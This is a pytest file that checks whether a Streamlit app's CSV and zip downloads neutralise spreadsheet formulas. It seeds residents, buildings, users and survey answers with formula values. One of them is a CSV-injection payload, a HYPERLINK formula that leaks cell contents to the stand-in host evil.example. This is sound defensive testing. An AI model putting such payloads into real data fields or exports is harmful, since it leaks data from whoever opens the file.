"""Every CSV the app offers goes through the one defusing writer (core/spreadsheet.py).

Two ways of finding the downloads: the source (no CSV is written anywhere else), and the
pages themselves, driven as the moderator, researcher and resident after the roster, a
building and the survey answers were filled with formulas; every file offered for download
(CSV files inside the personal-data zip included) is read back, and no cell may start with
`=`, `+`, `-`, `@`, tab or carriage return.
"""

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from sqlmodel import col, select

from core.i18n import Translator
from core.principal import Principal
from db.engine import read_session, write_session
from db.models import Building, Hearing, Resident, Survey, SurveyAnswer, SurveyResponse, User

ROOT = Path(__file__).resolve().parents[2]
WRITER = ROOT / "core" / "spreadsheet.py"
T = Translator("en")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def python_files():
    for folder in ("core", "components", "pages"):
        yield from sorted((ROOT / folder).rglob("*.py"))
    yield ROOT / "app.py"


def test_no_csv_is_written_outside_the_one_writer():
    writers = []
    for path in python_files():
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            name = (
                node.func.attr
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                else None
            )
            if name in ("to_csv", "writer", "DictWriter") and path != WRITER:
                writers.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    assert writers == [], "CSV written without core.spreadsheet.csv_bytes"


# --- the pages' downloads ---------------------------------------------------------------------


@pytest.fixture
def downloads(monkeypatch):
    """Every (file name, bytes) a download button offers while the fixture is active."""
    import streamlit.elements.widgets.button as button_module

    offered = []
    original = button_module.marshall_file

    def recording(coordinates, data, proto, mimetype, file_name=None, **kwargs):
        offered.append((file_name, data))
        return original(coordinates, data, proto, mimetype, file_name, **kwargs)

    monkeypatch.setattr(button_module, "marshall_file", recording)
    return offered


def fill_with_formulas() -> dict:
    """Names, units, a building code and survey answers that spreadsheets would run."""
    with write_session() as s:
        for resident in s.exec(select(Resident)):
            resident.full_name = HOSTILE_NAME
            resident.unit = "+1-2"
        building = s.exec(select(Building).order_by(col(Building.id))).first()
        building.code = "@B1"
        for answer in s.exec(select(SurveyAnswer).where(col(SurveyAnswer.text).is_not(None))):
            answer.text = "-2+3"
        for user in s.exec(select(User)):
            user.display_name = "=1+1"
    with read_session() as s:
        return {
            "hearing": s.exec(select(Hearing.id).where(Hearing.status == "open")).first(),
            "survey": s.exec(
                select(Survey.id).join(SurveyResponse).where(Survey.status == "closed")
            ).first(),
        }


def cells(name: str, data) -> list[str]:
    if callable(data):
        data = data()
    if isinstance(data, str):
        data = data.encode()
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return [
                cell
                for member in archive.namelist()
                if member.endswith(".csv")
                for cell in cells(member, archive.read(member))
            ]
    if not name.endswith(".csv"):
        return []
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def is_number(cell: str) -> bool:
    """-0.5 is read as a number, not run as a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def page(app, role: str, script: str, **query):
    at = app(role)
    at.query_params.update({k: str(v) for k, v in query.items()})
    at.run()
    at.switch_page(script).run()
    assert not at.exception, at.exception
    return at


def test_every_download_is_safe_in_a_spreadsheet(app, downloads):
    from core.hearings.invitations import draw_panel

    ids = fill_with_formulas()
    with read_session() as s:
        moderator = s.exec(select(User).where(User.username == "moderator")).one()
    draw_panel(
        actor=Principal(user_id=moderator.id, role="moderator", community_id=1),
        hearing_id=ids["hearing"],
        k=4,
        quotas={},
        seed=1,
    )

    at = page(app, "moderator", "pages/moderation.py")  # activation codes, first building
    [b for b in at.button if b.label == T("verification.issue")][0].click().run()
    assert not at.exception, at.exception
    page(app, "moderator", "pages/hearings.py", id=ids["hearing"])  # invitation letters
    page(app, "moderator", "pages/surveys.py", id=ids["survey"])  # free-text answers
    at = page(app, "researcher", "pages/dashboard.py")  # representation and per person
    at.segmented_control(key="dash_view").set_value("representation").run()
    for dimension in ("building", "age_band"):
        at.selectbox(key="dash_dimension").set_value(dimension).run()
        assert not at.exception, at.exception
    page(app, "resident", "pages/profile.py")  # the personal-data zip

    offered = {name.split("-")[0].split(".")[0] for name, _ in downloads}
    assert {
        "activation",
        "invitations",
        "survey",
        "representation",
        "participation",
        "yishiting",
    } <= offered, offered
    every_cell = [(name, cell) for name, data in downloads for cell in cells(name, data)]
    reached = {
        name.split("-")[0]
        for name, cell in every_cell
        if cell.removeprefix("'") in (HOSTILE_NAME, "+1-2", "@B1", "-2+3")
    }
    assert {"activation", "invitations", "survey"} <= reached, reached  # the formulas got there
    unsafe = sorted(
        {
            (name, cell)
            for name, cell in every_cell
            if cell.startswith(FORMULA_STARTS) and not is_number(cell)
        }
    )
    assert unsafe == [], f"cells a spreadsheet would run: {unsafe[:10]}"
